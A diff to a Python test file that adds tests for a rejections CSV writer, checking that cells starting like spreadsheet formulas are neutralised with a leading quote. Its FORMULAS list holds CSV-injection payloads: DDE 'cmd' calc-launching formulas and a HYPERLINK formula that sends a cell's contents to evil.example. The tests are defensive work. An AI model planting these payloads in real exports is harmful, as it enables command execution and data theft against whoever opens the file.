@@ -6,6 +6,7 @@ import csv
 import datetime as dt
 import json
 import sys
+import tempfile
 from pathlib import Path
 from typing import Any
 
@@ -92,6 +93,96 @@ def test_write_rejections_csv(tmp_path: Path) -> None:
     assert [row["row"] for row in read] == ["2", "4"]
     assert read[0]["message"] == 'comma, "quote"'
     assert read[1]["email"] == ""
+
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "-5",
+    "\t=1+1",
+    "\r=1+1",
+    " =cmd|' /C calc'!A0",
+    " \t @SUM(A1)",
+    "\uff1dcmd|' /C calc'!A0",  # FULLWIDTH EQUALS SIGN, evaluated by some spreadsheets
+]
+
+
+def test_write_rejections_csv_neutralises_formulas_in_every_cell(tmp_path: Path) -> None:
+    rejected = [
+        Rejection(row=i + 1, email=value, reason="invalid_email", message=value, field=value)
+        for i, value in enumerate(FORMULAS)
+    ]
+    r = report(total_rows=len(FORMULAS), exported=0, rejected=rejected)
+    path = r.write_rejections(tmp_path / "rejected.csv")
+    with path.open(newline="", encoding="utf-8") as fh:
+        header, *rows = list(csv.reader(fh))
+    assert header == ["row", "email", "reason", "message", "field"]
+    for value, row in zip(FORMULAS, rows, strict=True):
+        # The OWASP rule: a leading single quote makes the spreadsheet show the text, not evaluate it.
+        assert row[1:] == ["'" + value, "invalid_email", "'" + value, "'" + value]
+    # Cells a spreadsheet would not evaluate are written as they are.
+    plain = report(rejected=[rejection(2, email="a-b@x.example", message="it's 'fine' = ok"), rejection(4)])
+    path = plain.write_rejections(tmp_path / "plain.csv")
+    with path.open(newline="", encoding="utf-8") as fh:
+        assert [row[1:4] for row in csv.reader(fh)][1] == [
+            "a-b@x.example",
+            "invalid_email",
+            "it's 'fine' = ok",
+        ]
+
+
+def test_write_rejections_csv_neutralises_a_formula_column_name(tmp_path: Path) -> None:
+    # Column names come from the source (a rejection's `field`) and the header is neutralised too.
+    r = report(
+        rejected=[
+            Rejection(row=2, email="x@y", reason="invalid_value", message="bad", field="=1+1"),
+            rejection(4),
+        ]
+    )
+    path = r.write_rejections(tmp_path / "rejected.csv")
+    text = path.read_text(encoding="utf-8")
+    assert ",'=1+1\n" in text
+    assert "\n=" not in text
+    assert ",=" not in text
+
+
+@given(
+    st.lists(st.text(alphabet=st.sampled_from(" \t\r\n=+-@'a1\uff1d,\""), max_size=6), min_size=1, max_size=5)
+)
+def test_csv_cells_never_start_a_formula_and_lose_nothing(values: list[str]) -> None:
+    rejected = [
+        Rejection(row=i + 1, email=v, reason="invalid_value", message=v, field=v or None)
+        for i, v in enumerate(values)
+    ]
+    r = report(total_rows=len(values), exported=0, rejected=rejected)
+    with tempfile.TemporaryDirectory() as tmp:
+        path = r.write_rejections(Path(tmp) / "r.csv")
+        with path.open(newline="", encoding="utf-8") as fh:
+            rows = list(csv.reader(fh))[1:]
+    for value, row in zip(values, rows, strict=True):
+        for cell in (row[1], row[3]):
+            assert cell.lstrip(" \t\r\n")[:1] not in set("=+-@\uff1d") or cell.startswith("'")
+            assert cell[:1] not in ("\t", "\r")
+            assert cell in (value, "'" + value)
+            # Text that starts with a quote already is left alone only when it is harmless anyway.
+            assert (cell == "'" + value) == (
+                value.lstrip(" \t\r\n")[:1] in set("=+-@\uff1d\t\r") or value[:1] in ("\t", "\r")
+            )
+
+
+def test_write_rejections_jsonl_keeps_values_verbatim(tmp_path: Path) -> None:
+    rejected = [
+        Rejection(row=i + 1, email=value, reason="invalid_email", message=value, field=value)
+        for i, value in enumerate(FORMULAS)
+    ]
+    r = report(total_rows=len(FORMULAS), exported=0, rejected=rejected)
+    path = r.write_rejections(tmp_path / "rejected.jsonl")
+    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
+    assert [line["email"] for line in lines] == FORMULAS
+    assert [line["field"] for line in lines] == FORMULAS
 
 
 def test_write_rejections_jsonl(tmp_path: Path) -> None:
